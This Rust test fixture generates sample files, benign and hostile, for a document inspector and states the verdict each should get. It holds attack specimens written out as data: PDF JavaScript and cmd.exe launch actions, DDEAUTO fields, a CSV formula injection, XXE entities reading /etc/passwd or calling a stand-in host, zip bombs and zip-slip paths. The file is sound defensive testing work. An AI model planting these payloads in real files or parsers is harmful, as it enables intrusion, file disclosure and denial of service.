//! The classes of files and the verdicts that they must get.

use std::io::{Cursor, Write};

use lopdf::{Stream, dictionary};
use obieg_inspect::{Finding, Media};
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use crate::make::{
    Dice, compound, docx, gif, jpeg, mail, odf, ooxml, packed_pdf, pdf, png, relation, relations, renamed,
    sealed, tiff, webp, windows, xlsx, zip,
};

/// A class of files.
pub(crate) struct Class {
    /// Its name.
    pub(crate) name: &'static str,
    /// What they are.
    pub(crate) media: Media,
    /// Exactly what is found in each.
    pub(crate) findings: &'static [Finding],
    /// Makes one: its name and its bytes.
    pub(crate) make: fn(&mut Dice) -> (String, Vec<u8>),
}

fn class(
    name: &'static str,
    media: Media,
    findings: &'static [Finding],
    make: fn(&mut Dice) -> (String, Vec<u8>),
) -> Class {
    Class { name, media, findings, make }
}

/// A name with an ending.
fn named(dice: &mut Dice, ending: &str) -> String {
    format!("{}-{}.{ending}", dice.words(1), dice.up_to(1000))
}

pub(crate) fn classes() -> Vec<Class> {
    honest().into_iter().chain(pdfs()).chain(offices()).chain(archives()).chain(others()).collect()
}

fn honest() -> Vec<Class> {
    use Media::*;
    vec![
        class("PDF", Pdf, &[], |d| (named(d, "pdf"), pdf(d, |_, _| {}))),
        class("PDF with object streams", Pdf, &[], |d| (named(d, "pdf"), packed_pdf(d, |_, _| {}))),
        class("PDF with links and a form without scripts", Pdf, &[], |d| {
            (
                named(d, "pdf"),
                pdf(d, |document, catalogue| {
                    document.add_object(dictionary! { "Type" => "Annot", "Subtype" => "Link", "A" => dictionary! { "S" => "URI", "URI" => lopdf::Object::string_literal("https://example.org/") } });
                    catalogue.set("AcroForm", dictionary! { "Fields" => Vec::<lopdf::Object>::new() });
                }),
            )
        }),
        class("PNG", Png, &[], |d| (named(d, "png"), png(2480, 3508, d))),
        class("PNG of 40 million points", Png, &[], |d| (named(d, "png"), png(8000, 5000, d))),
        class("JPEG", Jpeg, &[], |d| (named(d, "JPG"), jpeg(1200, 1600, d))),
        class("GIF", Gif, &[], |d| (named(d, "gif"), gif(64, 48, d))),
        class("WEBP", Webp, &[], |d| (named(d, "webp"), webp(d))),
        class("TIFF", Tiff, &[], |d| (named(d, "tif"), tiff(1728, 2200))),
        class("text in UTF-8", Text, &[], |d| (named(d, "txt"), d.words(200).into_bytes())),
        class("text in Windows-1250", Other, &[], |d| {
            let mut bytes = b"Za\xBF\xF3\xB3\xE6 g\xEA\x9Cl\xB9 ".to_vec();
            bytes.extend(d.words(20).into_bytes().iter().filter(|byte| byte.is_ascii()));
            (named(d, "txt"), bytes)
        }),
        class("CSV with negative numbers and a title with a plus", Text, &[], |d| {
            (named(d, "csv"), format!("tytuł;kwota\n+ {};-{}\n", d.words(2), d.up_to(500)).into_bytes())
        }),
        class("XML with a stylesheet, as offices send it", Xml, &[], |d| {
            (named(d, "xml"), format!("<?xml version=\"1.0\"?><?xml-stylesheet href=\"a.xsl\"?><Dokument><Tytul>{} &amp; &#321;</Tytul></Dokument>", d.words(3)).into_bytes())
        }),
        class("XML 200 deep", Xml, &[], |_| ("a.xml".to_owned(), deep(200))),
        class("SVG without scripts", Svg, &[], |d| {
            (
                named(d, "svg"),
                format!(
                    "<svg xmlns=\"http://www.w3.org/2000/svg\"><title>{}</title><path d=\"M0 0\"/></svg>",
                    d.words(2)
                )
                .into_bytes(),
            )
        }),
        class("message with a PDF", Mail, &[], |d| {
            let content = pdf(d, |_, _| {});
            (named(d, "eml"), mail("wniosek.pdf", &content))
        }),
        class("RTF", Rtf, &[], |d| {
            (named(d, "rtf"), format!("{{\\rtf1\\ansi {}}}", d.words(20)).into_bytes())
        }),
        class("DOCX with a link and a picture", Docx, &[], |d| {
            let links = relations(
                &(relation("hyperlink", "https://example.org/", true)
                    + &relation("image", "media/image1.png", false)),
            );
            let picture = png(10, 10, d);
            (
                named(d, "docx"),
                docx(d, "", &[("word/_rels/document.xml.rels", links), ("word/media/image1.png", picture)]),
            )
        }),
        class("DOCX made from a template on the writer's disk", Docx, &[], |d| {
            let template = relations(&relation("attachedTemplate", "file:///C:\\Szablony\\Pismo.dotx", true));
            (named(d, "docx"), docx(d, "", &[("word/_rels/settings.xml.rels", template)]))
        }),
        class("XLSX", Xlsx, &[], |d| (named(d, "xlsx"), xlsx(d, &[]))),
        class("PPTX", Pptx, &[], |d| {
            let text = d.words(10);
            (named(d, "pptx"), ooxml("ppt", "presentation.xml", &text, &[]))
        }),
        class("ODT", Odt, &[], |d| (named(d, "odt"), odf("text", d, "", "", &[]))),
        class("ODS", Ods, &[], |d| (named(d, "ods"), odf("spreadsheet", d, "", "", &[]))),
        class("DOC", Ole, &[], |d| (named(d, "doc"), compound(d, &["1Table"], b""))),
        class("ZIP", Zip, &[], |d| {
            let text = d.words(30).into_bytes();
            (named(d, "zip"), zip(&[("pisma/a.txt", text.clone()), ("b.txt", text)]))
        }),
        class("ZIP in a ZIP in a ZIP", Zip, &[], |d| (named(d, "zip"), nested(3))),
        class("ASiC-E", AsicE, &[], |d| {
            let content = pdf(d, |_, _| {});
            let entries = [
                ("mimetype", b"application/vnd.etsi.asic-e+zip".to_vec()),
                ("wniosek.pdf", content),
                ("META-INF/signatures.xml", b"<?xml version=\"1.0\"?><a/>".to_vec()),
            ];
            (named(d, "asice"), zip(&entries))
        }),
        class("unknown bytes", Other, &[], |d| {
            let mut bytes = b"\x81\x82".to_vec();
            bytes.extend(d.bytes(100));
            (named(d, "dat"), bytes)
        }),
    ]
}

fn deep(depth: usize) -> Vec<u8> {
    let mut text = String::from("<?xml version=\"1.0\"?>");
    text.push_str(&"<a>".repeat(depth));
    text.push_str(&"</a>".repeat(depth));
    text.into_bytes()
}

fn nested(depth: usize) -> Vec<u8> {
    (0..depth).fold(b"tekst".to_vec(), |inner, at| zip(&[(if at == 0 { "a.txt" } else { "a.zip" }, inner)]))
}

fn script() -> lopdf::Dictionary {
    dictionary! { "S" => "JavaScript", "JS" => lopdf::Object::string_literal("app.alert(1)") }
}

fn pdfs() -> Vec<Class> {
    use Finding::*;
    let of = |name, findings, make| class(name, Media::Pdf, findings, make);
    vec![
        of("PDF with JavaScript on opening", &[PdfScript], |d| {
            (named(d, "pdf"), pdf(d, |_, catalogue| catalogue.set("OpenAction", script())))
        }),
        of("PDF with JavaScript in an object stream", &[PdfScript], |d| {
            (
                named(d, "pdf"),
                packed_pdf(d, |document, catalogue| {
                    let action = document.add_object(script());
                    catalogue.set("Names", dictionary! { "JavaScript" => action });
                }),
            )
        }),
        of("PDF with JavaScript behind a name in hexadecimal", &[PdfScript], |d| {
            let bytes = pdf(d, |_, catalogue| catalogue.set("OpenAction", script()));
            let text: Vec<u8> = replaced(&bytes, b"/JavaScript", b"/J#61vaScri");
            (named(d, "pdf"), text)
        }),
        of("PDF with JavaScript in an object that the index does not name", &[PdfScript], |d| {
            let mut bytes = pdf(d, |_, _| {});
            bytes.extend(b"\n99 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n%%EOF\n");
            (named(d, "pdf"), bytes)
        }),
        of("PDF that starts a program", &[PdfLaunch], |d| {
            (
                named(d, "pdf"),
                pdf(d, |document, _| {
                    document.add_object(
                        dictionary! { "S" => "Launch", "F" => lopdf::Object::string_literal("cmd.exe") },
                    );
                }),
            )
        }),
        of("PDF that calls an address on opening", &[PdfAction], |d| {
            (
                named(d, "pdf"),
                pdf(d, |_, catalogue| {
                    catalogue.set(
                        "OpenAction",
                        dictionary! { "S" => "URI", "URI" => lopdf::Object::string_literal("https://zly.example/") },
                    )
                }),
            )
        }),
        of("PDF that sends its form when it is closed", &[PdfAction], |d| {
            (
                named(d, "pdf"),
                packed_pdf(d, |_, catalogue| {
                    catalogue.set("AA", dictionary! { "WC" => dictionary! { "S" => "SubmitForm" } })
                }),
            )
        }),
        of("PDF with a file inside", &[PdfFiles], |d| {
            (
                named(d, "pdf"),
                pdf(d, |document, catalogue| {
                    let file = document
                        .add_object(Stream::new(dictionary! { "Type" => "EmbeddedFile" }, b"tresc".to_vec()));
                    catalogue.set("Names", dictionary! { "EmbeddedFiles" => dictionary! { "Names" => vec![lopdf::Object::string_literal("a.txt"), dictionary! { "EF" => dictionary! { "F" => file } }.into()] } });
                }),
            )
        }),
        of("PDF with a film", &[PdfFiles], |d| {
            (
                named(d, "pdf"),
                pdf(d, |document, _| {
                    document.add_object(dictionary! { "Type" => "Annot", "Subtype" => "RichMedia" });
                }),
            )
        }),
        of("PDF as an XFA form", &[PdfForm], |d| {
            (
                named(d, "pdf"),
                pdf(d, |_, catalogue| {
                    catalogue
                        .set("AcroForm", dictionary! { "XFA" => lopdf::Object::string_literal("<xdp/>") })
                }),
            )
        }),
        of("PDF with a password", &[Sealed], |d| {
            let mut bytes = pdf(d, |_, _| {});
            let at = memchr::memmem::rfind(&bytes, b"/Root").unwrap();
            let encrypt = format!(
                "/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <{0}> /U <{0}> >> /ID [<{1}> <{1}>] ",
                "41".repeat(32),
                "42".repeat(16)
            );
            bytes.splice(at..at, encrypt.into_bytes());
            (named(d, "pdf"), bytes)
        }),
        of("PDF of which only the beginning came", &[Broken], |d| {
            let mut bytes = b"%PDF-1.7\n".to_vec();
            bytes.extend(d.bytes(300).iter().map(|byte| byte | 0x80));
            (named(d, "pdf"), bytes)
        }),
        of("PDF with an object stream that explodes", &[Broken], |d| {
            let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
            packer.write_all(&vec![b' '; 6 << 20]).unwrap();
            let packed = packer.finish().unwrap();
            let mut bytes = b"%PDF-1.7\n".to_vec();
            let at = bytes.len();
            bytes.extend(
                format!(
                    "7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {} >>\nstream\n",
                    packed.len()
                )
                .into_bytes(),
            );
            bytes.extend(packed);
            bytes.extend(b"\nendstream\nendobj\n");
            let xref = bytes.len();
            bytes.extend(format!("xref\n0 1\n0000000000 65535 f \n7 1\n{at:010} 00000 n \ntrailer\n<< /Size 8 /Root 7 0 R >>\nstartxref\n{xref}\n%%EOF\n").into_bytes());
            (named(d, "pdf"), bytes)
        }),
        of("PDF with more object streams than are opened", &[Unread], |d| {
            let mut bytes = b"%PDF-1.7\n".to_vec();
            for at in 0..600 + d.up_to(50) {
                bytes.extend(format!("{at} 0 obj << /Type /ObjStm >> endobj\n").into_bytes());
            }
            (named(d, "pdf"), bytes)
        }),
        of("PDF and ZIP", &[Polyglot], |d| {
            let mut bytes = pdf(d, |_, _| {});
            bytes.extend(zip(&[("a.txt", b"tekst".to_vec())]));
            (named(d, "pdf"), bytes)
        }),
        of("PDF and HTML", &[Broken, Polyglot], |d| {
            (named(d, "pdf"), format!("%PDF-1.7\n<html><script>{}</script></html>", d.words(3)).into_bytes())
        }),
        of("PDF with a Windows program in it", &[Program], |d| {
            let program = windows(d);
            (
                named(d, "pdf"),
                pdf(d, |document, _| {
                    document.add_object(Stream::new(dictionary! {}, program));
                }),
            )
        }),
    ]
}

fn replaced(bytes: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    // A name in hexadecimal is two bytes longer: the rest moves, and the index is mended by every reader.
    let mut out = Vec::new();
    let mut rest = bytes;
    while let Some(at) = memchr::memmem::find(rest, from) {
        out.extend(&rest[..at]);
        out.extend(to);
        out.extend(b"pt");
        rest = &rest[at + from.len()..];
    }
    out.extend(rest);
    out
}

fn offices() -> Vec<Class> {
    use Finding::*;
    use Media::{Docx, Ods, Odt, Ole, Rtf, Xlsx};
    vec![
        class("DOCM with macros", Docx, &[Macro], |d| {
            let binary = d.bytes(50);
            (named(d, "docm"), docx(d, "", &[("word/vbaProject.bin", binary)]))
        }),
        class("DOCX with macros told only by a relation", Docx, &[Macro], |d| {
            let links = relations(&relation("vbaProject", "dane.bin", false));
            (named(d, "docx"), docx(d, "", &[("word/_rels/document.xml.rels", links)]))
        }),
        class("DOCX with a template from the network", Docx, &[Template], |d| {
            let links = relations(&relation("attachedTemplate", "https://zly.example/a.dotm", true));
            (named(d, "docx"), docx(d, "", &[("word/_rels/settings.xml.rels", links)]))
        }),
        class("DOCX with an object from the network", Docx, &[Template], |d| {
            let links = relations(&relation("oleObject", "mhtml:https://zly.example/a.html", true));
            (named(d, "docx"), docx(d, "", &[("word/_rels/document.xml.rels", links)]))
        }),
        class("DOCX with an OLE object", Docx, &[Object], |d| {
            let links = relations(&relation("oleObject", "embeddings/oleObject1.bin", false));
            (
                named(d, "docx"),
                docx(
                    d,
                    "",
                    &[
                        ("word/_rels/document.xml.rels", links),
                        ("word/embeddings/oleObject1.bin", b"x".to_vec()),
                    ],
                ),
            )
        }),
        class("DOCX with ActiveX", Docx, &[Object], |d| {
            (named(d, "docx"), docx(d, "", &[("word/activeX/activeX1.bin", b"x".to_vec())]))
        }),
        class("DOCX with DDE cut into runs", Docx, &[Dde], |d| {
            (
                named(d, "docx"),
                docx(
                    d,
                    "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r>",
                    &[],
                ),
            )
        }),
        class("DOCX with DDE in a simple field", Docx, &[Dde], |d| {
            (named(d, "docx"), docx(d, "<w:fldSimple w:instr=\"DDE cmd\"/>", &[]))
        }),
        class("XLSX with DDE", Xlsx, &[Dde], |d| {
            (
                named(d, "xlsx"),
                xlsx(
                    d,
                    &[(
                        "xl/externalLinks/externalLink1.xml",
                        b"<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>".to_vec(),
                    )],
                ),
            )
        }),
        class("XLSX with a sheet of old macros", Xlsx, &[Macro], |d| {
            (named(d, "xlsx"), xlsx(d, &[("xl/macrosheets/sheet1.xml", b"<a/>".to_vec())]))
        }),
        class("DOCX with a password", Ole, &[Sealed], |d| {
            (named(d, "docx"), compound(d, &["EncryptionInfo", "EncryptedPackage"], b""))
        }),
        class("DOC with macros", Ole, &[Macro], |d| {
            (named(d, "doc"), compound(d, &["Macros", "VBA", "_VBA_PROJECT"], b""))
        }),
        class("DOC with an object", Ole, &[Object], |d| {
            (named(d, "doc"), compound(d, &["ObjectPool", "\u{1}Ole10Native"], b""))
        }),
        class("DOC with DDE", Ole, &[Dde], |d| {
            (named(d, "doc"), compound(d, &[], b"\x13DDEAUTO c:\\cmd.exe\x14\x15"))
        }),
        class("installation package", Ole, &[Program], |d| (named(d, "msi"), compound(d, &[], b""))),
        class("RTF with an object", Rtf, &[Object], |d| {
            (
                named(d, "rtf"),
                format!("{{\\rtf1 {} {{\\object\\objemb\\objdata 0105}}}}", d.words(3)).into_bytes(),
            )
        }),
        class("RTF with a template from the network", Rtf, &[Template], |d| {
            (
                named(d, "rtf"),
                format!("{{\\rtf1{{\\*\\template http://zly.example/a.dotm}}{}}}", d.words(3)).into_bytes(),
            )
        }),
        class("RTF with DDE", Rtf, &[Dde], |d| {
            (
                named(d, "rtf"),
                format!("{{\\rtf1{{\\field{{\\*\\fldinst DDEAUTO cmd}}}}{}}}", d.words(3)).into_bytes(),
            )
        }),
        class("ODT with macros", Odt, &[Macro], |d| {
            (named(d, "odt"), odf("text", d, "", "", &[("Basic/Standard/Module1.xml", b"<a/>".to_vec())]))
        }),
        class("ODT with a script behind an event", Odt, &[Macro], |d| {
            (
                named(d, "odt"),
                odf("text", d, "<script:event-listener xlink:href=\"vnd.sun.star.script:a\"/>", "", &[]),
            )
        }),
        class("ODT with a password", Odt, &[Sealed], |d| {
            (named(d, "odt"), odf("text", d, "", "<manifest:encryption-data/>", &[]))
        }),
        class("ODS with DDE", Ods, &[Dde], |d| {
            (named(d, "ods"), odf("spreadsheet", d, "<table:dde-link/>", "", &[]))
        }),
        class("ODT with a template from the network", Odt, &[Template], |d| {
            (named(d, "odt"), odf("text", d, "", "", &[("meta.xml", b"<office:meta><meta:template xlink:href=\"http://zly.example/a.ott\"/></office:meta>".to_vec())]))
        }),
        class("ODT with an OLE object", Odt, &[Object], |d| {
            (
                named(d, "odt"),
                odf(
                    "text",
                    d,
                    "",
                    "<manifest:file-entry manifest:media-type=\"application/vnd.sun.star.oleobject\"/>",
                    &[],
                ),
            )
        }),
    ]
}

fn archives() -> Vec<Class> {
    use Finding::*;
    let of = |name, findings, make| class(name, Media::Zip, findings, make);
    vec![
        of("ZIP of 1,001 files", &[ArchiveMany], |d| {
            let names: Vec<String> = (0..1001).map(|at| format!("{at}.txt")).collect();
            let entries: Vec<(&str, Vec<u8>)> =
                names.iter().map(|name| (name.as_str(), Vec::new())).collect();
            (named(d, "zip"), zip(&entries))
        }),
        of("ZIP that says it has more than 500 MB", &[ArchiveLarge], |d| {
            // Within the ratio for one entry, and stored as it is: only the directory says otherwise.
            let mut bytes = zip(&[("mimetype", vec![0; 5_300_000])]);
            let at = memchr::memmem::find(&bytes, b"PK\x01\x02").unwrap();
            bytes[at + 24..at + 28].copy_from_slice(&(525_000_000_u32).to_le_bytes());
            (named(d, "zip"), bytes)
        }),
        of("ZIP bomb", &[ArchiveBomb], |d| {
            (named(d, "zip"), zip(&[("a.txt", vec![0; (2 << 20) + d.up_to(1 << 20)])]))
        }),
        of("ZIP bomb in a ZIP", &[ArchiveBomb], |d| {
            let bomb = zip(&[("a.txt", vec![b'a'; 3 << 20])]);
            (named(d, "zip"), zip(&[("a.zip", bomb)]))
        }),
        of("ZIP with a way up", &[ArchiveName], |d| {
            (named(d, "zip"), zip(&[("../../a.txt", b"x".to_vec())]))
        }),
        of("ZIP with an absolute path", &[ArchiveName], |d| {
            (named(d, "zip"), zip(&[("/etc/a.txt", b"x".to_vec())]))
        }),
        of("ZIP with a drive", &[ArchiveName], |d| (named(d, "zip"), zip(&[("C:a.txt", b"x".to_vec())]))),
        of("ZIP with a backslash", &[ArchiveName], |d| {
            (named(d, "zip"), zip(&[("..\\a.txt", b"x".to_vec())]))
        }),
        of("ZIP with NUL in a name", &[ArchiveName], |d| {
            (named(d, "zip"), renamed(zip(&[("ab@cd.txt", b"x".to_vec())]), b"ab@cd", b"ab\0cd", false))
        }),
        of("ZIP with a name of 256 characters", &[ArchiveName], |d| {
            (named(d, "zip"), zip(&[("x".repeat(256).as_str(), b"x".to_vec())]))
        }),
        of("ZIP with names that differ in case", &[ArchiveTrick], |d| {
            (named(d, "zip"), zip(&[("A.txt", b"x".to_vec()), ("a.TXT", b"y".to_vec())]))
        }),
        of("ZIP with a name twice", &[ArchiveTrick], |d| {
            (
                named(d, "zip"),
                renamed(
                    zip(&[("a1.txt", b"x".to_vec()), ("a2.txt", b"y".to_vec())]),
                    b"a2.txt",
                    b"a1.txt",
                    false,
                ),
            )
        }),
        of("ZIP with a link", &[ArchiveTrick], |d| {
            let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
            writer.add_symlink("a.txt", "/etc/passwd", SimpleFileOptions::default()).unwrap();
            (named(d, "zip"), writer.finish().unwrap().into_inner())
        }),
        of("ZIP with a device", &[ArchiveTrick], |d| {
            let mut bytes = zip(&[("a.txt", b"x".to_vec())]);
            let at = memchr::memmem::find(&bytes, b"PK\x01\x02").unwrap();
            bytes[at + 5] = 3;
            bytes[at + 38..at + 42].copy_from_slice(&(0o020_666_u32 << 16).to_le_bytes());
            (named(d, "zip"), bytes)
        }),
        of("ZIP whose entries overlap", &[ArchiveTrick], |d| {
            let mut bytes = zip(&[("a.txt", b"pierwszy".to_vec()), ("b.txt", b"drugi wpis".to_vec())]);
            let second = memchr::memmem::find_iter(&bytes, b"PK\x01\x02").nth(1).unwrap();
            // The second entry points at the first.
            bytes[second + 42..second + 46].copy_from_slice(&0_u32.to_le_bytes());
            (named(d, "zip"), bytes)
        }),
        of("ZIP whose directory calls a file otherwise", &[ArchiveTrick], |d| {
            (
                named(d, "zip"),
                renamed(zip(&[("faktura.pdf", b"x".to_vec())]), b"faktura.pdf", b"faktura.txt", true),
            )
        }),
        of("ZIP with another ZIP in front", &[ArchiveTrick], |d| {
            let mut bytes = zip(&[("ukryty.txt", b"x".to_vec())]);
            bytes.extend(zip(&[("widoczny.txt", b"y".to_vec())]));
            (named(d, "zip"), bytes)
        }),
        of("ZIP with a password", &[Sealed], |d| {
            (named(d, "zip"), sealed(zip(&[("a.txt", d.words(9).into_bytes())])))
        }),
        of("ZIPs four deep", &[ArchiveDeep], |d| (named(d, "zip"), nested(4))),
        of("ZIP without its end", &[Broken], |d| {
            let mut bytes = zip(&[("a.txt", b"tekst".to_vec())]);
            bytes.truncate(bytes.len() - 10 - d.up_to(10));
            (named(d, "zip"), bytes)
        }),
        of("ZIP with a program in it", &[Program], |d| {
            let program = windows(d);
            (named(d, "zip"), zip(&[("czytaj.txt", b"tekst".to_vec()), ("faktura.pdf.exe", program)]))
        }),
        of("ZIP with a document with macros in it", &[Macro], |d| {
            let inner = docx(d, "", &[("word/vbaProject.bin", b"x".to_vec())]);
            (named(d, "zip"), zip(&[("pismo.docm", inner)]))
        }),
        class("7-Zip", Media::Other, &[ArchiveOther], |d| {
            let mut bytes = b"7z\xBC\xAF\x27\x1C\0\x04".to_vec();
            bytes.extend(d.bytes(60));
            (named(d, "7z"), bytes)
        }),
        class("RAR", Media::Other, &[ArchiveOther], |d| {
            let mut bytes = b"Rar!\x1A\x07\x01\0".to_vec();
            bytes.extend(d.bytes(60));
            (named(d, "rar"), bytes)
        }),
        class("gzip", Media::Other, &[ArchiveOther], |d| {
            let mut bytes = b"\x1F\x8B\x08\0".to_vec();
            bytes.extend(d.bytes(60));
            (named(d, "gz"), bytes)
        }),
    ]
}

fn others() -> Vec<Class> {
    use Finding::*;
    use Media::{Gif, Html, Jpeg, Mail, Other, Pdf, Png, Svg, Text, Xml};
    vec![
        class("PNG of more than 40 million points", Png, &[Pixels], |d| {
            (named(d, "png"), png(8000, 5001, d))
        }),
        class("JPEG of more than 40 million points", Jpeg, &[Pixels], |d| {
            (named(d, "jpg"), jpeg(65_000, 65_000, d))
        }),
        class("GIF of more than 40 million points", Gif, &[Pixels], |d| {
            (named(d, "gif"), gif(65_535, 65_535, d))
        }),
        class("PNG of which only the beginning came", Png, &[Broken], |d| {
            (named(d, "png"), b"\x89PNG\r\n\x1A\n\0\0".to_vec())
        }),
        class("GIF and JavaScript", Gif, &[Pixels, Polyglot], |d| {
            (named(d, "gif"), [b"GIF89a=1;/*", d.words(5).as_bytes(), b"*/alert(1)"].concat())
        }),
        class("PNG and HTML", Png, &[Polyglot], |d| {
            let mut bytes = png(10, 10, d);
            bytes.extend(b"<HTML><body>");
            (named(d, "png"), bytes)
        }),
        class("JPEG and ZIP", Jpeg, &[Polyglot], |d| {
            let mut bytes = jpeg(10, 10, d);
            bytes.extend(zip(&[("a.txt", b"tekst".to_vec())]));
            (named(d, "jpg"), bytes)
        }),
        class("JPEG and RAR", Jpeg, &[Polyglot], |d| {
            let mut bytes = jpeg(10, 10, d);
            bytes.extend(b"Rar!\x1A\x07\0");
            (named(d, "jpg"), bytes)
        }),
        class("PNG with a Windows program behind", Png, &[Program], |d| {
            let mut bytes = png(10, 10, d);
            bytes.extend(windows(d));
            (named(d, "png"), bytes)
        }),
        class("text and PDF", Text, &[Polyglot], |d| {
            (named(d, "txt"), format!("{}\n%PDF-1.4\n1 0 obj\n%%EOF\n", d.words(5)).into_bytes())
        }),
        class("HTML", Html, &[Page], |d| {
            (named(d, "html"), format!("<!DOCTYPE html><p>{}</p>", d.words(9)).into_bytes())
        }),
        class("HTML with a script", Html, &[Page, Script], |d| {
            (named(d, "html"), format!("<html><script>{}</script></html>", d.words(2)).into_bytes())
        }),
        class("HTML with a form", Html, &[Page, Script], |d| {
            (
                named(d, "htm"),
                format!("<html><form action='https://zly.example/{}'></form></html>", d.up_to(99))
                    .into_bytes(),
            )
        }),
        class("HTML that leads elsewhere", Html, &[Page, Script], |d| {
            (
                named(d, "html"),
                format!("<html><meta HTTP-EQUIV=\"refresh\" content=\"{}\"></html>", d.up_to(9)).into_bytes(),
            )
        }),
        class("HTML that begins as text", Text, &[Script], |d| {
            (named(d, "html"), format!("<p>{}<script>a</script>", d.words(3)).into_bytes())
        }),
        class("SVG with a script", Svg, &[Script], |d| {
            (
                named(d, "svg"),
                format!("<svg xmlns=\"s\"><title>{}</title><script>a</script></svg>", d.words(2))
                    .into_bytes(),
            )
        }),
        class("SVG with a handler", Svg, &[Script], |d| {
            (
                named(d, "svg"),
                format!("<svg xmlns=\"s\" onload=\"a()\"><title>{}</title></svg>", d.words(2)).into_bytes(),
            )
        }),
        class("SVG with a page in it", Svg, &[Script], |d| {
            (
                named(d, "svg"),
                format!("<svg xmlns=\"s\"><foreignObject><p>{}</p></foreignObject></svg>", d.words(2))
                    .into_bytes(),
            )
        }),
        class("XML with a document type", Xml, &[Doctype], |d| {
            (
                named(d, "xml"),
                format!("<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"a.dtd\"><a>{}</a>", d.words(2))
                    .into_bytes(),
            )
        }),
        class("XML that reads a file", Xml, &[Entities], |d| {
            (named(d, "xml"), format!("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;{}</a>", d.words(2)).into_bytes())
        }),
        class("XML that calls an address", Xml, &[Entities], |d| {
            (named(d, "xml"), format!("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY % e SYSTEM \"http://zly.example/{}\"> %e;]><a/>", d.up_to(99)).into_bytes())
        }),
        class("XML that explodes", Xml, &[Entities], |d| {
            let mut text = String::from("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY a0 \"x\">");
            for at in 1..10 {
                text += &format!("<!ENTITY a{at} \"{}\">", format!("&a{};", at - 1).repeat(10));
            }
            text += &format!("]><a>&a9;{}</a>", d.words(1));
            (named(d, "xml"), text.into_bytes())
        }),
        class("XML with an entity that nobody knows", Xml, &[Entities], |d| {
            (
                named(d, "xml"),
                format!(
                    "<?xml version=\"1.0\"?><a>&{};</a>",
                    d.words(1).replace(|letter: char| !letter.is_ascii(), "")
                )
                .into_bytes(),
            )
        }),
        class("XML in UTF-16 that reads a file", Other, &[Entities], |d| {
            let text = format!(
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;{}</a>",
                d.words(2)
            );
            let mut bytes = b"\xFF\xFE".to_vec();
            bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
            (named(d, "xml"), bytes)
        }),
        class("XML 201 deep", Xml, &[XmlDeep], |d| (named(d, "xml"), deep(201))),
        class("XML 200,000 deep", Xml, &[XmlDeep], |d| (named(d, "xml"), deep(200_000))),
        class("XML that is not one", Xml, &[Broken], |d| {
            (named(d, "xml"), format!("<?xml version=\"1.0\"?><a><b>{}</a>", d.words(2)).into_bytes())
        }),
        class("CSV that starts a program", Text, &[Dde], |d| {
            (named(d, "csv"), format!("a;{};=cmd|' /C calc'!A0\n", d.words(1)).into_bytes())
        }),
        class("Windows program", Other, &[Program], |d| (named(d, "exe"), windows(d))),
        class("Windows program called a PDF", Other, &[NameDiffers, Program], |d| {
            (named(d, "pdf"), windows(d))
        }),
        class("Linux program", Other, &[Program], |d| {
            let mut bytes = b"\x7FELF\x02\x01\x01\0".to_vec();
            bytes.extend(d.bytes(60));
            (named(d, "bin"), bytes)
        }),
        class("shortcut of Windows", Other, &[Program], |d| {
            let mut bytes = b"\x4C\0\0\0\x01\x14\x02\0".to_vec();
            bytes.extend(d.bytes(60));
            (named(d, "lnk"), bytes)
        }),
        class("shell script", Text, &[Program], |d| {
            (named(d, "txt"), format!("#!/bin/sh\necho {}\n", d.words(1)).into_bytes())
        }),
        class("script by its name", Text, &[Program], |d| (named(d, "vbs"), d.words(5).into_bytes())),
        class("program behind a second ending", Text, &[Program], |d| {
            (format!("{}.pdf.js", d.words(1)), d.words(5).into_bytes())
        }),
        class("name that reads backwards", Text, &[NameHidden, Program], |d| {
            (format!("{}\u{202E}fdp.exe", d.words(1)), d.words(5).into_bytes())
        }),
        class("name with spaces before its ending", Text, &[NameHidden, Program], |d| {
            (format!("{}.pdf{}.bat", d.words(1), " ".repeat(60)), d.words(5).into_bytes())
        }),
        class("PNG called a PDF", Png, &[NameDiffers], |d| (named(d, "pdf"), png(10, 10, d))),
        class("empty file", Other, &[Empty, NameDiffers], |d| (named(d, "pdf"), Vec::new())),
        class("message with a program", Mail, &[Program], |d| {
            let program = windows(d);
            (named(d, "eml"), mail("faktura.exe", &program))
        }),
        class("message of 100,000 messages inside each other", Mail, &[], |d| {
            let mut bytes = b"From: a@example.org\r\nTo: b@example.org\r\n".to_vec();
            for _ in 0..100_000 {
                bytes.extend(b"Content-Type: message/rfc822\r\n\r\n");
            }
            (named(d, "eml"), bytes)
        }),
        class("message with a PDF with JavaScript", Mail, &[PdfScript], |d| {
            let content = pdf(d, |_, catalogue| catalogue.set("OpenAction", script()));
            (named(d, "eml"), mail("faktura.pdf", &content))
        }),
        class("PDF and nothing else that a scanner wrote twice", Pdf, &[], |d| {
            // A document with a later change behind it: honest, signed files look so.
            let mut bytes = pdf(d, |_, _| {});
            bytes.extend(b"\n%%EOF\n");
            (named(d, "pdf"), bytes)
        }),
    ]
}
